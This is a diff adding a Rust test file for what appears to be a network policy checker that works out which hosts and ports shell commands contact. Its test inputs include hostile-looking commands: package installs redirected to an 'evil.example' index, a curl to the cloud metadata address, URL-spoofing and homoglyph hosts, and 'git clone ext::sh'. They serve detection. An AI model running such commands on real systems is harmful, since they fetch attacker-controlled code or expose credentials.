@@ -1,0 +1,192 @@
+use super::*;
+use crate::policy::corpus;
+use guarda_shell::script::Dialect;
+
+fn facts() -> NetworkFacts {
+    let remote = |name: &str, url: &str| (name.to_owned(), url.to_owned());
+    NetworkFacts {
+        remotes: vec![
+            remote("origin", "git@git.example:a/b.git"),
+            remote("fork", "https://ana:pw@fork.example/b"),
+        ],
+        moved: vec![remote("npm", "~/.npmrc")],
+        allowed: Vec::new(),
+    }
+}
+
+fn plan(line: &str) -> NetworkPlan {
+    let script = guarda_shell::read(line, Dialect::Bash);
+    let mut situation = corpus::situation(&script);
+    situation.network = facts();
+    NetworkPlan::of(&script.unwrap(), &situation, |_| true)
+}
+
+/// The hosts of a plan as `host:port,port`; the tables' own left out.
+fn hosts(plan: &NetworkPlan) -> Vec<String> {
+    let said = |rule: &HostRule| {
+        let ports =
+            Vec::from(rule.ports.clone()).iter().map(ToString::to_string).collect::<Vec<_>>().join(",");
+        let private = if rule.private { "!" } else { "" };
+        format!("{private}{}:{ports}", rule.host)
+    };
+    plan.hosts.iter().filter(|rule| !matches!(rule.why, Why::Tool { .. })).map(said).collect()
+}
+
+#[test]
+fn words_name_hosts() {
+    for (line, wanted) in [
+        ("curl https://example.org/x?token=y", &["example.org:443"][..]),
+        ("curl -sSL -o out.html http://Example.ORG.", &["example.org:80,443"]),
+        ("curl example.org/x", &["example.org:80,443"]),
+        ("curl --url https://a.example", &["a.example:443"]),
+        (
+            "curl https://a.example?x=y https://b.example/$X https://c.example$X",
+            &["a.example:443", "b.example:443"],
+        ),
+        ("curl https://ana:pw@a.example:8443/", &["a.example:8443"]),
+        ("curl localhost:3000/health", &["!localhost:3000"]),
+        ("curl http://127.1:3000", &["!127.0.0.1:3000"]),
+        ("curl http://2130706433/", &["!127.0.0.1:80,443"]),
+        ("curl http://[::1]:8080/", &["!::1:8080"]),
+        ("curl http://169.254.169.254/latest", &["!169.254.169.254:80,443"]),
+        ("curl 'https://good.example\\@evil.example/'", &[]),
+        ("curl https://a@good.example@evil.example/", &[]),
+        ("curl -d @f -H 'A: b' https://a.example", &["a.example:443"]),
+        ("wget -O x -P y https://a.example/z", &["a.example:443"]),
+        ("git clone https://github.com/a/b", &["github.com:443"]),
+        ("git clone git@github.com:a/b.git", &["github.com:22"]),
+        ("git clone ssh://git@github.com:2222/a/b", &["github.com:2222"]),
+        ("git clone git://a.example/b", &["a.example:9418"]),
+        ("git clone ../b", &[]),
+        ("git fetch", &["git.example:22", "fork.example:443"]),
+        ("git pull fork main", &["fork.example:443"]),
+        ("git push origin HEAD:main", &["git.example:22"]),
+        ("git -C /x push", &["git.example:22", "fork.example:443"]),
+        ("git push -u origin main", &["git.example:22"]),
+        ("git pull https://a.example/b main", &["a.example:443"]),
+        ("git submodule update", &["git.example:22", "fork.example:443"]),
+        ("git log", &[]),
+        ("ssh -p 2222 -i key ana@box.example ls", &["box.example:2222"]),
+        ("ssh box.example curl https://inner.example", &["box.example:22"]),
+        ("scp -P 2222 a ana@box.example:b", &["box.example:2222"]),
+        ("rsync -a a/ box.example:b", &["box.example:22"]),
+        ("rsync rsync://a.example/x .", &["a.example:873"]),
+        ("rsync a.example::x .", &["a.example:873"]),
+        ("nc a.example 25", &["a.example:25"]),
+        ("telnet a.example 80", &["a.example:80"]),
+        ("openssl s_client -connect a.example:443 -servername b.example", &["a.example:443"]),
+        ("psql -h db.example -p 5433 -c 'select 1'", &["db.example:5433"]),
+        ("psql --host=db.example x", &["db.example:5432"]),
+        ("psql postgres://ana:pw@db.example/x", &["db.example:5432"]),
+        ("mysql -hdb.example x", &["db.example:3306"]),
+        ("redis-cli -h localhost", &["!localhost:6379"]),
+        ("pip install https://a.example/x.whl", &["a.example:443"]),
+        ("pip install git+https://a.example/x", &["a.example:443"]),
+        ("timeout 5 curl https://a.example", &["a.example:443"]),
+        ("sh -c 'curl https://a.example'", &["a.example:443"]),
+        ("./deploy.sh --to=https://a.example https://b.example", &["a.example:443", "b.example:443"]),
+        ("frobnicate file:///x a.example", &[]),
+        ("docker run x curl https://a.example", &[]),
+        ("ls", &[]),
+    ] {
+        assert_eq!(hosts(&plan(line)), wanted, "{line}: {:?}", plan(line));
+    }
+}
+
+#[test]
+fn tools_bring_their_own_hosts() {
+    let own = |line: &str| {
+        let plan = plan(line);
+        plan.hosts.iter().map(|rule| rule.host.to_string()).collect::<Vec<_>>()
+    };
+    assert_eq!(own("pip install requests"), ["pypi.org", "files.pythonhosted.org"]);
+    assert_eq!(own("python3 -m pip install requests"), ["pypi.org", "files.pythonhosted.org"]);
+    assert_eq!(own("cargo fetch"), ["index.crates.io", "static.crates.io", "crates.io"]);
+    assert_eq!(own("pip --version"), [""; 0]);
+    assert_eq!(own("python3 x.py"), [""; 0]);
+    assert_eq!(plan("ping a.example").whole[0].program, "ping");
+    assert!(plan("curl https://a.example").whole.is_empty());
+    assert_eq!(plan("ollama list").hosts.loopback_ports(), [11434]);
+    assert_eq!(plan("curl localhost:3000 127.0.0.1:8000").hosts.loopback_ports(), [3000, 8000]);
+}
+
+#[test]
+fn what_leads_elsewhere_is_named() {
+    let moved = |tool: &str, by: &str| Remark::Moved { tool: tool.to_owned(), by: by.to_owned() };
+    for (line, remarks, found) in [
+        (
+            "pip install -i https://evil.example/simple x",
+            vec![moved("pypi", "-i")],
+            &["evil.example:443"][..],
+        ),
+        (
+            "pip install --extra-index-url=https://evil.example x",
+            vec![moved("pypi", "--extra-index-url")],
+            &["evil.example:443"],
+        ),
+        (
+            "PIP_INDEX_URL=https://evil.example pip install x",
+            vec![moved("pypi", "PIP_INDEX_URL")],
+            &["evil.example:443"],
+        ),
+        ("env GOPROXY=https://evil.example go get x", vec![moved("go", "GOPROXY")], &["evil.example:443"]),
+        ("npm install", vec![Remark::File { tool: "npm".to_owned(), file: "~/.npmrc".to_owned() }], &[]),
+        (
+            "curl -x proxy.example:3128 https://a.example",
+            vec![moved("curl", "-x")],
+            &["proxy.example:3128", "a.example:443"],
+        ),
+        ("ssh -J jump.example box.example", vec![moved("ssh", "-J")], &["jump.example:22", "box.example:22"]),
+        ("ssh -oProxyCommand=x box.example", vec![moved("ssh", "-o")], &["box.example:22"]),
+        ("curl https://$HOST/x", vec![Remark::Unknown { word: "https://$HOST".to_owned() }], &[]),
+        ("git clone ext::sh", vec![Remark::Unknown { word: "ext::sh".to_owned() }], &[]),
+        ("git clone https://a.example/x", vec![], &["a.example:443"]),
+    ] {
+        let plan = plan(line);
+        assert_eq!(plan.unusual, remarks, "{line}");
+        assert_eq!(hosts(&plan), found, "{line}");
+    }
+    let looks = plan("curl https://gооgle.com http://169.254.169.254").unusual;
+    assert_eq!(looks.len(), 2, "{looks:?}");
+}
+
+#[test]
+fn each_run_has_its_own() {
+    let line = "curl https://a.example && pip install x";
+    let script = guarda_shell::read(line, Dialect::Bash).unwrap();
+    let situation = corpus::situation(&Ok(script.clone()));
+    let of = |index| NetworkPlan::of(&script, &situation, |at| at == index).hosts.iter().count();
+    assert_eq!((of(0), of(1)), (1, 2));
+}
+
+#[test]
+fn configuration_adds_hosts() {
+    let script = guarda_shell::read("pip install x; ls; ./deploy", Dialect::Bash);
+    let mut situation = corpus::situation(&script);
+    let rule = |host: &str| HostRule {
+        host: host.parse().unwrap(),
+        ports: crate::network::Ports::Of(vec![443]),
+        protocol: crate::network::Protocol::Web,
+        why: Why::Policy { entry: host.to_owned() },
+        private: false,
+    };
+    situation.network.allowed = vec![
+        (None, rule("any.example")),
+        (Some("pip".to_owned()), rule("pip.example")),
+        (Some("deploy".to_owned()), rule("deploy.example")),
+    ];
+    let script = script.unwrap();
+    let of = |index| hosts(&NetworkPlan::of(&script, &situation, |at| at == index));
+    assert_eq!(of(0), ["any.example:443", "pip.example:443"]);
+    assert_eq!(of(1), [""; 0]);
+    assert_eq!(of(2), ["deploy.example:443"]);
+}
+
+#[test]
+fn every_entry_of_the_table_can_be_used() {
+    for tool in table::TOOLS {
+        assert!(!tool.name.is_empty() && !tool.runs.is_empty(), "{}", tool.name);
+        assert_eq!(tool.rules().count(), tool.hosts.len(), "{}", tool.name);
+    }
+    assert!(packages().any(|name| name == "pypi"));
+}
